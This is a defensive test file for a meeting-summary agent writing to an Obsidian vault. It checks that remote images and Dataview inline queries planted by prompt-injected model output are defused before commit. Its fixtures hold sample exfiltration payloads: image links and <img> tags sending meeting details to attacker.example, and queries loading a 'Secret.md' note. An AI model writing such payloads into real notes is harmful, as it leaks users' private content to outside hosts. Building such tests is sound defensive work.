/**
 * S17 (hostile review 6): a model steered by hostile text writes remote images (`![](https://…?q=<meeting
 * content>)`, `<img src=…>`) into the summary and context notes; Obsidian would fetch them when the note
 * is shown. Every agent path that commits model text defuses them (core `defuseRemoteContent`): the
 * write tools (write_summary, write_context), the final reply used as the summary, and a host's
 * `finish({ body })`; the run record says what was defused. Scripted model server (@ma/testkit),
 * temp copy of the sample vault.
 */
import { afterEach, describe, expect, it } from 'vitest';
import { openMeetingSession, summarizeMeeting } from '../src/index.js';
import { FUNCTIONAL, type Harness, readTranscriptIn, splitNote, startHarness } from './harness.js';

let h: Harness | undefined;
afterEach(async () => {
  await h?.close();
  h = undefined;
});

const SUMMARY =
  '## Summary\n- We met (L7) ![](https://attacker.example/p.png?q=rubber-casing-12.50EUR)\n<img src="https://attacker.example/i.png?d=secret">\n\n## Decisions\n- Rubber (L12)\n\n## Next steps\n- [ ] quote (L14)\n';

/** No remote image or loading tag in a note's text, which still names the address. */
function expectInert(text: string): void {
  expect(text).not.toMatch(/!\[[^\]]*\]\(https:/);
  expect(text).not.toMatch(/<img/i);
  expect(text).toContain('attacker.example');
}

describe('S17: the agent commits no remote image into the vault', () => {
  it("write_summary and write_context (the reviewer's scenario): summary and context note inert", async () => {
    h = await startHarness([
      { toolCalls: [{ name: 'write_summary', arguments: { content: SUMMARY, replace_file: true } }] },
      {
        toolCalls: [
          {
            name: 'write_context',
            arguments: { content: 'notes ![x](https://attacker.example/c.png?d=ctx)' },
          },
        ],
      },
      { text: 'Done.' },
    ]);
    const run = await summarizeMeeting({ vault: h.vault, meeting: FUNCTIONAL, env: {} });
    expectInert(await h.read(run.summaryPath));
    expectInert(await h.read(run.contextPath));
    // The model was told, in the tool's answer.
    const answers = JSON.stringify(h.server.requests.at(-1));
    expect(answers).toMatch(/defused 2 items Obsidian would load/);
  });

  it('the final reply used as the summary: defused, and the run record says so', async () => {
    h = await startHarness([{ text: SUMMARY }]);
    const run = await summarizeMeeting({ vault: h.vault, meeting: FUNCTIONAL, env: {} });
    const body = splitNote(await h.read(run.summaryPath)).body;
    expectInert(body);
    expect(body).toContain(
      '[image: attacker.example/p.png](https://attacker.example/p.png?q=rubber-casing-12.50EUR)',
    );
    expect(await h.read(run.contextPath)).toMatch(
      /- warning: the summary's text: defused 2 items Obsidian would load/,
    );
  });

  it("a host's finish({ body }): defused", async () => {
    h = await startHarness([]);
    const session = await openMeetingSession({ vault: h.vault, meeting: FUNCTIONAL, model: 'test-model' });
    // L285: the host's model reads the transcript before it finishes.
    await readTranscriptIn(session);
    const done = await session.finish({ body: SUMMARY });
    expectInert(await h.read(done.summaryPath));
  });
});

describe('S17 follow-up: the committed summary holds no runnable Dataview inline query', () => {
  it('the final reply used as the summary: `$= …` and `= …` escaped, the run record says so', async () => {
    h = await startHarness([
      {
        text: '## Summary\n- We met (L7) `$= dv.io.load("Secret.md")` and `= [[Secret]].pay`\n\n## Decisions\n- Rubber (L12)\n',
      },
    ]);
    const run = await summarizeMeeting({ vault: h.vault, meeting: FUNCTIONAL, env: {} });
    const body = splitNote(await h.read(run.summaryPath)).body;
    expect(body).toContain('`\\$= dv.io.load("Secret.md")` and `\\= [[Secret]].pay`');
    expect(await h.read(run.contextPath)).toMatch(/defused 2 items .*2 Dataview inline queries/);
  });
});
